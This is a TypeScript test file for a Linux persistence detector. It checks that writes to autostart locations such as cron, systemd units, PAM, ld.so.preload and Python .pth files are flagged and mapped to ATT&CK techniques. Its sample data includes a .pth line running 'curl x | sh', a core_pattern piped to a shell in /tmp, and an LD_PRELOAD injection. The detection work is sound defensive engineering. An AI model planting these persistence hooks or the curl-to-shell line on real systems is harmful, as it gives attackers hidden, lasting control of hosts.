import { describe, expect, it } from 'vitest';
import type { AutostartPlace, HostEvent, HostProcessWithParents } from '../../../contract/events.ts';
import { autostartRow } from './autostart-paths.ts';
import { persistenceBehaviour } from './persistence.ts';
import { findingsOf, program, START_MS } from './testing.ts';

function writes(path: string, process?: HostProcessWithParents): HostEvent {
  return { type: 'file-written', timeMs: START_MS, path, ...(process !== undefined && { process }) };
}

const bash = program('/usr/bin/bash ./install.sh', ['/usr/bin/bash']);

describe('autostartRow', () => {
  it('knows the places', () => {
    const places: Readonly<Record<AutostartPlace, string>> = {
      crontab: '/var/spool/cron/crontabs/anna',
      'at-job': '/var/spool/at/a0001',
      'systemd-unit': '/home/anna/.config/systemd/user/x.service',
      'systemd-timer': '/etc/systemd/system/x.timer',
      'init-script': '/etc/rc.local',
      'shell-startup': '/root/.bashrc',
      'desktop-autostart': '/home/anna/.config/autostart/x.desktop',
      'ld-preload': '/etc/ld.so.preload',
      pam: '/etc/pam.d/sshd',
      udev: '/etc/udev/rules.d/99-x.rules',
      'authorized-keys': '/home/anna/.ssh/authorized_keys',
      'ssh-server': '/etc/ssh/sshd_config.d/99-x.conf',
      'ssh-client': '/home/anna/.ssh/config',
      sudoers: '/etc/sudoers.d/anna',
      polkit: '/etc/polkit-1/rules.d/00-x.rules',
      'd-bus': '/usr/share/dbus-1/system-services/org.x.service',
      'network-hook': '/etc/network/if-up.d/x',
      'kernel-helper': '/etc/binfmt.d/x.conf',
      'interpreter-startup': '/usr/lib/python3/dist-packages/x.pth',
      'git-settings': '/home/anna/.gitconfig',
      'log-rotation': '/etc/logrotate.d/x',
      'kernel-module': '/etc/modules-load.d/x.conf',
      'package-hook': '/etc/apt/apt.conf.d/99x',
      motd: '/etc/update-motd.d/99-x',
    };
    for (const [place, path] of Object.entries(places)) expect(autostartRow(path)?.place, path).toBe(place);
  });

  it('takes /lib for what it leads to', () => {
    expect(autostartRow('/lib/systemd/system/x.service')?.place).toBe('systemd-unit');
    expect(autostartRow('/lib/x86_64-linux-gnu/security/pam_x.so')?.place).toBe('pam');
  });

  it('leaves other files alone', () => {
    for (const path of [
      '/home/anna/notes.txt',
      '/etc/hosts',
      '/root/.bashrc.swp',
      '/home/anna/.ssh/known_hosts',
      '/usr/lib/x.so',
      '/home/anna',
    ])
      expect(autostartRow(path), path).toBeUndefined();
  });
});

/** Path, a line that comes into it, technique, severity where bash wrote it. */
const WRITTEN: readonly (readonly [path: string, technique: string, severity: string])[] = [
  ['/etc/polkit-1/rules.d/00-x.rules', 'T1548', 'high'],
  ['/usr/share/polkit-1/actions/x.policy', 'T1548', 'high'],
  ['/usr/share/dbus-1/system-services/org.x.service', 'T1543', 'medium'],
  ['/etc/dbus-1/system.d/x.conf', 'T1543', 'medium'],
  ['/home/anna/.local/share/dbus-1/services/org.x.service', 'T1543', 'medium'],
  ['/etc/binfmt.d/x.conf', 'T1546', 'medium'],
  ['/etc/request-key.d/x.conf', 'T1546', 'medium'],
  ['/etc/modprobe.d/x.conf', 'T1547.006', 'medium'],
  ['/usr/lib/python3.12/sitecustomize.py', 'T1546.018', 'medium'],
  ['/home/anna/.local/lib/python3.12/site-packages/usercustomize.py', 'T1546.018', 'medium'],
  ['/usr/share/git-core/templates/hooks/post-checkout', 'T1546', 'low'],
  ['/etc/NetworkManager/dispatcher.d/99-x', 'T1546', 'medium'],
  ['/etc/dhcp/dhclient-exit-hooks.d/x', 'T1546', 'medium'],
  ['/etc/ppp/ip-up.d/x', 'T1546', 'medium'],
  ['/var/lib/dpkg/info/cron.postinst', 'T1546.016', 'medium'],
  ['/etc/dpkg/dpkg.cfg', 'T1546.016', 'medium'],
  ['/etc/initramfs-tools/scripts/init-top/x', 'T1037.004', 'medium'],
  ['/etc/systemd/user-generators/x', 'T1543.002', 'medium'],
  ['/usr/lib/systemd/system-environment-generators/x', 'T1543.002', 'medium'],
  ['/usr/lib/environment.d/x.conf', 'T1546.004', 'low'],
  ['/etc/skel/.bashrc', 'T1546.004', 'low'],
  ['/usr/lib/x86_64-linux-gnu/security/pam_unix.so', 'T1556.003', 'high'],
  ['/etc/nsswitch.conf', 'T1556.003', 'high'],
  ['/etc/doas.conf', 'T1548.003', 'high'],
  ['/etc/gdm3/PostLogin/Default', 'T1547.013', 'low'],
];

const TOLD_BY_CONTENT: readonly (readonly [path: string, place: AutostartPlace, content: string, technique: string])[] =
  [
    ['/etc/ssh/sshd_config', 'ssh-server', 'AuthorizedKeysCommand /usr/sbin/x', 'T1098.004'],
    ['/etc/ssh/sshd_config.d/x.conf', 'ssh-server', 'PermitRootLogin yes', 'T1556'],
    ['/home/anna/.ssh/config', 'ssh-client', 'ProxyCommand /home/anna/x', 'T1546'],
    ['/home/anna/.gitconfig', 'git-settings', 'core.hooksPath = /home/anna/x', 'T1546'],
    ['/etc/sysctl.d/x.conf', 'kernel-helper', 'kernel.core_pattern=|/usr/sbin/x', 'T1546'],
    ['/etc/logrotate.d/x', 'log-rotation', '/usr/sbin/x', 'T1053'],
    ['/usr/lib/python3/dist-packages/x.pth', 'interpreter-startup', 'import os; os.system("x")', 'T1546.018'],
    ['/etc/php/8.3/apache2/conf.d/x.ini', 'interpreter-startup', 'auto_prepend_file = /srv/x.php', 'T1546.018'],
    ['/etc/network/interfaces', 'network-hook', 'up /usr/sbin/x', 'T1546'],
    ['/etc/systemd/system.conf.d/x.conf', 'systemd-unit', 'DefaultEnvironment=LD_PRELOAD=/opt/x.so', 'T1543.002'],
  ];

function changes(path: string, place: AutostartPlace, content: string): HostEvent {
  return { type: 'autostart-change', timeMs: START_MS + 500, place, action: 'added', path, content };
}

const dpkg = program('/usr/bin/dpkg --configure -a', ['/usr/bin/apt-get install x']);

describe('persistence', () => {
  it.each(WRITTEN)('tells that somebody wrote %s, and not that a package manager did', (path, technique, severity) => {
    const [found] = findingsOf(persistenceBehaviour, [writes(path, bash)]);
    expect(found).toMatchObject({ severity, title: `bash changed ${path}` });
    expect(found?.techniques).toContain(technique);
    expect(findingsOf(persistenceBehaviour, [writes(path, dpkg)])).toEqual([]);
  });

  it.each(TOLD_BY_CONTENT)('tells of %s what starts something, and who wrote it', (path, place, content, technique) => {
    expect(findingsOf(persistenceBehaviour, [writes(path, bash)])).toEqual([]);
    const [found, ...others] = findingsOf(persistenceBehaviour, [writes(path, bash), changes(path, place, content)]);
    expect(others).toEqual([]);
    expect(found).toMatchObject({ title: `bash changed ${path}` });
    expect(found?.techniques).toContain(technique);
    expect(found?.evidence).toContainEqual(expect.objectContaining({ name: 'content', value: content }));
    expect(findingsOf(persistenceBehaviour, [writes(path, dpkg), changes(path, place, content)])).toEqual([]);
  });

  it('does not take an old writer for the one of now', () => {
    const path = '/etc/systemd/system/x.service';
    const later = { ...changes(path, 'systemd-unit', 'ExecStart=/opt/x'), timeMs: START_MS + 10 * 60_000 };
    const found = findingsOf(persistenceBehaviour, [writes(path, dpkg), later]);
    expect(found).toMatchObject([{ title: `Something changed ${path}` }]);
  });

  it('is silent about what pip does, and tells a strange line of it', () => {
    const path = '/home/anna/.local/lib/python3.12/site-packages/x.pth';
    const tell = (who: HostProcessWithParents, content: string) =>
      findingsOf(persistenceBehaviour, [writes(path, who), changes(path, 'interpreter-startup', content)]).length;
    const usual = 'import __editable___x_finder; __editable___x_finder.install()';
    expect(tell(program('/usr/bin/python3 -m pip install -e x'), usual)).toBe(0);
    expect(tell(program('/usr/bin/python3 /usr/bin/pip install x'), usual)).toBe(0);
    expect(tell(program('/usr/bin/python3 -m pip install x'), 'import os; os.system("curl x | sh")')).toBe(1);
    expect(tell(program('/usr/bin/python3 /tmp/pip install x'), usual)).toBe(1);
    expect(tell(program('/usr/bin/python3 ./x.py'), usual)).toBe(1);
  });

  it('tells programs of the kernel that lie where no package puts any, and no others', () => {
    const tell = (path: string, content: string) =>
      findingsOf(persistenceBehaviour, [changes(path, 'kernel-helper', content)]).length;
    const format = '/proc/sys/fs/binfmt_misc/x';
    expect(tell(format, 'interpreter /usr/libexec/qemu-binfmt/arm-binfmt-P\nflags: POCF')).toBe(0);
    expect(tell(format, 'interpreter /opt/../home/anna/x\nflags: OC')).toBe(1);
    expect(tell(format, 'interpreter /home/anna/.x\nflags: OC')).toBe(1);
    const crash = '/proc/sys/kernel/core_pattern';
    expect(tell(crash, '|/usr/share/apport/apport -p%p')).toBe(0);
    expect(tell(crash, '|/usr/bin/bash /tmp/x')).toBe(1);
    expect(tell(crash, '|/var/lib/x %p')).toBe(1);
  });

  it('tells who changed a place, once for a file', () => {
    const path = '/etc/systemd/system/x.service';
    const found = findingsOf(persistenceBehaviour, [
      writes(path, bash),
      {
        type: 'autostart-change',
        timeMs: START_MS + 500,
        place: 'systemd-unit',
        action: 'added',
        path,
        content: 'ExecStart=/tmp/.x',
      },
    ]);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      kind: 'persistence',
      severity: 'high',
      title: `bash changed ${path}`,
      techniques: ['T1543.002'],
      files: [{ path }],
    });
  });

  it('weighs what a program from an open folder writes more', () => {
    const found = findingsOf(persistenceBehaviour, [
      writes('/home/anna/.bashrc', program('/tmp/.cache/x')),
      writes('/home/anna/.zshrc', bash),
    ]);
    expect(found.map(({ severity }) => severity)).toEqual(['medium', 'low']);
  });

  it('tells of crontab that takes its lines from elsewhere, and of the preloaded library even of a package', () => {
    expect(
      findingsOf(persistenceBehaviour, [
        writes('/var/spool/cron/crontabs/anna', program('/usr/bin/crontab -', ['/usr/bin/bash'])),
      ]),
    ).toHaveLength(1);
    expect(
      findingsOf(persistenceBehaviour, [writes('/etc/ld.so.preload', program('/usr/bin/dpkg -i x.deb'))]),
    ).toHaveLength(1);
  });

  it('is not excused by a program that only calls itself a package manager', () => {
    expect(findingsOf(persistenceBehaviour, [writes('/etc/cron.d/x', program('/tmp/dpkg -i'))])).toHaveLength(1);
  });

  it('is silent about packages, editors, the desktop and systemctl', () => {
    const events = [
      writes(
        '/etc/cron.d/sysstat',
        program('/usr/bin/dash /var/lib/dpkg/info/sysstat.postinst', [
          '/usr/bin/dpkg --configure -a',
          '/usr/bin/apt-get install',
        ]),
      ),
      writes('/etc/cron.d/backup', program('/usr/bin/vim.basic /etc/cron.d/backup', ['/usr/bin/sudo vim'])),
      writes('/usr/lib/systemd/system/x.service', program('/usr/bin/rpm -U x.rpm')),
      writes('/home/anna/.config/autostart/slack.desktop', program('/usr/bin/gnome-shell')),
      writes('/etc/systemd/system/multi-user.target.wants/x.service', program('/usr/bin/systemctl enable x')),
      writes('/var/spool/cron/crontabs/anna', program('/usr/bin/crontab -e')),
      writes('/home/anna/notes.txt', bash),
    ];
    expect(findingsOf(persistenceBehaviour, events)).toEqual([]);
  });
});
